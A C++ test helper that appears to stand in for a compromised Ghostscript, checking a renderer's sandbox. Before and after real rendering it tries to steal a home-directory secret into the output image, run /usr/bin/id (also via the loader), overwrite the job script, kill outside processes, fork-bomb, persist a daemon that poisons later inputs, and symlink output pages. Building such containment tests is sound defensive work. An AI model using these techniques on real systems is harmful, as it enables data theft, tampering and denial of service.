// A Ghostscript taken over by a hostile file, for the tests: before it
// renders (with the real Ghostscript library, so its image is the real one)
// it tries what a bypass of safe mode would try. Each attempt says on its
// error output whether it got through.
#include <ghostscript/iapi.h>

#include <arpa/inet.h>
#include <fcntl.h>
#include <link.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/auxv.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

void report(const char *attempt, bool succeeded)
{
    std::fprintf(stderr, "compromised: %s %s (%s)\n", attempt, succeeded ? "SUCCEEDED" : "refused",
                 succeeded ? "" : std::strerror(errno));
}

std::string readSecret(const std::string &path)
{
    std::string secret;
    const int fd = ::open(path.c_str(), O_RDONLY);
    report("reading the secret", fd >= 0);
    if (fd < 0)
        return secret;
    char buffer[256];
    for (ssize_t n; (n = ::read(fd, buffer, sizeof buffer)) > 0;)
        secret.append(buffer, size_t(n));
    ::close(fd);
    return secret;
}

void plant(const std::string &path)
{
    const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    report(("writing " + path).c_str(), fd >= 0);
    if (fd >= 0)
        ::close(fd);
}

void runId()
{
    const pid_t child = ::fork();
    if (child == 0) {
        const int out = ::open("id.txt", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        ::dup2(out, STDOUT_FILENO);
        char *const arguments[] = {const_cast<char *>("/usr/bin/id"), nullptr};
        ::execv("/usr/bin/id", arguments);
        std::fprintf(stderr, "compromised: starting /usr/bin/id refused (%s)\n", std::strerror(errno));
        ::_exit(127);
    }
    int status = 0;
    ::waitpid(child, &status, 0);
}

// The program loader runs any program it can read, whatever may be started.
void runIdThroughTheLoader()
{
    struct Search
    {
        ElfW(Addr) base;
        const char *name;
    } search{ElfW(Addr)(::getauxval(AT_BASE)), nullptr};
    ::dl_iterate_phdr(
        [](dl_phdr_info *object, size_t, void *data) {
            auto *wanted = static_cast<Search *>(data);
            if (object->dlpi_addr == wanted->base)
                wanted->name = object->dlpi_name;
            return 0;
        },
        &search);
    if (!search.name)
        return;
    const pid_t child = ::fork();
    if (child == 0) {
        const int out = ::open("id-loader.txt", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        ::dup2(out, STDOUT_FILENO);
        char *const arguments[] = {const_cast<char *>(search.name), const_cast<char *>("/usr/bin/id"), nullptr};
        ::execv(search.name, arguments);
        std::fprintf(stderr, "compromised: starting /usr/bin/id through the loader refused (%s)\n",
                     std::strerror(errno));
        ::_exit(127);
    }
    int status = 0;
    ::waitpid(child, &status, 0);
}

// Descriptors that whatever started Pellucor left open.
void writeInheritedDescriptors()
{
    bool wrote = false;
    for (int fd = 3; fd < 256; ++fd)
        wrote = ::write(fd, "owned\n", 6) == 6 || wrote;
    report("writing to an inherited descriptor", wrote);
}

// Memory that outlives its process unless its namespace ends.
void makeSharedMemory()
{
    const int segment = ::shmget(IPC_PRIVATE, 8 << 20, IPC_CREAT | 0600);
    report("making a System V segment", segment >= 0);
}

void signalTheVictim()
{
    const char *victim = std::getenv("PELLUCOR_TEST_VICTIM_PID");
    if (!victim)
        return;
    const pid_t pid = pid_t(std::atol(victim));
    const int pidfd = int(::syscall(SYS_pidfd_open, pid, 0));
    report("opening a pidfd of a process outside", pidfd >= 0);
    if (pidfd >= 0)
        ::syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, nullptr, 0);
    report("killing a process outside", ::kill(pid, SIGKILL) == 0);
}

// As many processes as it is let have, each ending by itself in half a minute.
void forkMany()
{
    int made = 0;
    for (; made < 200; ++made) {
        const pid_t child = ::fork();
        if (child < 0)
            break;
        if (child == 0) {
            ::alarm(30);
            ::pause();
            ::_exit(0);
        }
    }
    const std::string count = std::to_string(made) + "\n";
    const int out = ::open("forks.txt", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (out >= 0) {
        [[maybe_unused]] const ssize_t written = ::write(out, count.data(), count.size());
        ::close(out);
    }
}

// A process of its own session (where it may make one) that keeps the
// folder's staged input its own for a minute: every later image would be
// this one's.
void leaveAProcessBehind()
{
    const pid_t child = ::fork();
    if (child != 0) {
        if (child > 0) // out of processes, it would wait for any of those it made
            ::waitpid(child, nullptr, 0);
        return;
    }
    ::setsid();
    if (::fork() != 0)
        ::_exit(0);
    for (int fd = 0; fd < 256; ++fd)
        ::close(fd);
    const char hostile[] = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n"
                           "1 0 0 setrgbcolor 0 0 100 100 rectfill showpage\n";
    const timespec pause{0, 5 * 1000 * 1000};
    for (int round = 0; round < 12000; ++round) {
        const int staged = ::open("current.eps", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (staged >= 0) {
            [[maybe_unused]] const ssize_t written = ::write(staged, hostile, sizeof hostile - 1);
            ::close(staged);
        }
        ::nanosleep(&pause, nullptr);
    }
    ::_exit(0);
}

// Its process group may hold whatever reaps it: with that gone, what it
// left behind above would outlive its job.
void killOwnGroup()
{
    report("killing its own process group", ::kill(0, SIGKILL) == 0);
}

void connectTo(const char *port)
{
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    bool connected = false;
    if (fd >= 0) {
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_port = htons(std::uint16_t(std::atoi(port)));
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        connected = ::connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0;
        ::close(fd);
    }
    report("connecting to the listener", connected);
}

// Rendering the input named "NAME" of "NAME=TARGET", it makes its first page
// a link to TARGET, another file's image: whoever gathers the page must not
// take that image for this file's.
void linkFirstPage(int argc, char **argv, const std::string &request)
{
    const std::string name = request.substr(0, request.find('=')), target = request.substr(request.find('=') + 1),
                      input = argv[argc - 1];
    if (input != name
        && (input.size() <= name.size()
            || input.compare(input.size() - name.size() - 1, std::string::npos, "/" + name) != 0))
        return;
    for (int i = 1; i < argc; ++i) {
        std::string page = argv[i];
        if (page.rfind("-sOutputFile=", 0) != 0)
            continue;
        page.erase(0, std::strlen("-sOutputFile="));
        if (const auto pattern = page.find("%06d"); pattern != std::string::npos)
            page.replace(pattern, 4, "000001");
        for (std::string::size_type at; (at = page.find("%%")) != std::string::npos;)
            page.erase(at, 1);
        ::unlink(page.c_str());
        report("linking its page to another file's image", ::symlink(target.c_str(), page.c_str()) == 0);
    }
}

} // namespace

int main(int argc, char **argv)
{
    const char *home = std::getenv("HOME");
    const std::string secret = home ? readSecret(std::string(home) + "/secret.txt") : std::string();
    if (home)
        plant(std::string(home) + "/planted.txt");
    plant("/tmp/pellucor-compromised-" + std::to_string(::getpid()));
    runId();
    // The script every later entry runs: emptied, so that they would give no image.
    {
        const int script = ::open("eps2jpg.sh", O_WRONLY | O_TRUNC);
        report("rewriting the job script", script >= 0);
        if (script >= 0) {
            [[maybe_unused]] const ssize_t written = ::write(script, "exit 0\n", 7);
            ::close(script);
        }
    }
    if (const char *port = std::getenv("PELLUCOR_TEST_LISTENER_PORT"))
        connectTo(port);
    runIdThroughTheLoader();
    writeInheritedDescriptors();
    makeSharedMemory();
    signalTheVictim();
    forkMany();

    void *instance = nullptr;
    if (gsapi_new_instance(&instance, nullptr) < 0)
        return 1;
    int code = gsapi_init_with_args(instance, argc, argv);
    if (code == 0 || code == -101) // -101: quit, which ends a run without an error
        code = 0;
    gsapi_exit(instance);
    gsapi_delete_instance(instance);
    if (const char *request = std::getenv("PELLUCOR_TEST_PAGE_LINK"))
        linkFirstPage(argc, argv, request);

    // What was stolen goes into the image.
    if (!secret.empty()) {
        const int image = ::open("current.jpg", O_WRONLY | O_APPEND);
        if (image >= 0) {
            [[maybe_unused]] const ssize_t written = ::write(image, secret.data(), secret.size());
            ::close(image);
        }
    }
    // Once its own image is drawn: a process that stages a picture of its own for the entries after.
    leaveAProcessBehind();
    // A folder where the next entry's input is staged: the script cannot remove it.
    if (::unlink("current.eps") == 0)
        report("planting a folder at the staged input", ::mkdir("current.eps", 0700) == 0);
    killOwnGroup();
    return code == 0 ? 0 : 1;
}
